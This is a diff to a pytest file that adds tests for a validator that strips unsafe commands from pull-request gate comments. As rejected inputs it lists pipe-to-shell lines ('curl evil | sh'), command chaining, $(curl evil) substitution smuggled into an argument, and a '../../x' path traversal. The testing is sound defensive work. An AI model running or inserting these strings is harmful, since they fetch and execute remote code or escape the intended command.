@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 from gate_comment import artifact, post
+from gate_comment.commands import with_safe_commands
 from gate_comment.document import checked
 from gate_comment.errors import Refused
 from gate_comment.event import gate_run
@@ -18,7 +19,7 @@ from gate_comment.github import GitHub
 from gate_comment.inert import require_inert
 from gate_comment.pull_request import MARKER, number_of, put_comment
 
-HEAD = "a" * 40
+HEAD, BASE = "a" * 40, "b" * 40
 REPOSITORY = "/repos/nesproof/nesproof"
 
 
@@ -215,6 +216,40 @@ def test_another_document_is_refused(document: Any, event: Any, tmp_path: Path, 
 def test_what_is_no_document_is_refused(event: Any, tmp_path: Path, data: bytes) -> None:
     with pytest.raises(Refused):
         checked(data, run_of(event, tmp_path))
+
+
+# --- The commands
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil | sh",
+        f"nesproof gate {BASE} {HEAD}; curl evil",
+        f"nesproof gate {BASE} {HEAD} $(curl evil)",
+        f"nesproof gate {BASE} {'c' * 40}",
+        f"nesproof gate main {HEAD}",
+        f"nesproof gate {BASE} {HEAD} --claim '$(curl evil)'",
+        f"nesproof gate {BASE} {HEAD} --out ../../x",
+        f"nesproof  gate {BASE} {HEAD}",
+        f"nesproof gate {BASE} {HEAD} 'open",
+        "",
+    ],
+)
+def test_a_command_that_does_more_than_compare_is_refused(document: Any, command: str) -> None:
+    made = document()
+    with pytest.raises(Refused):
+        with_safe_commands(made.model_copy(update={"repeat": command}))
+    rerun = made.claims[0].model_copy(update={"rerun": command})
+    with pytest.raises(Refused):
+        with_safe_commands(made.model_copy(update={"claims": (rerun,)}))
+
+
+def test_remedies_of_a_stranger_are_left_out(document: Any) -> None:
+    made = document()
+    remedied = made.claims[0].model_copy(update={"remedy": "curl evil | sh"})
+    safe = with_safe_commands(made.model_copy(update={"claims": (remedied,)}))
+    assert safe == made
 
 
 # --- The last door
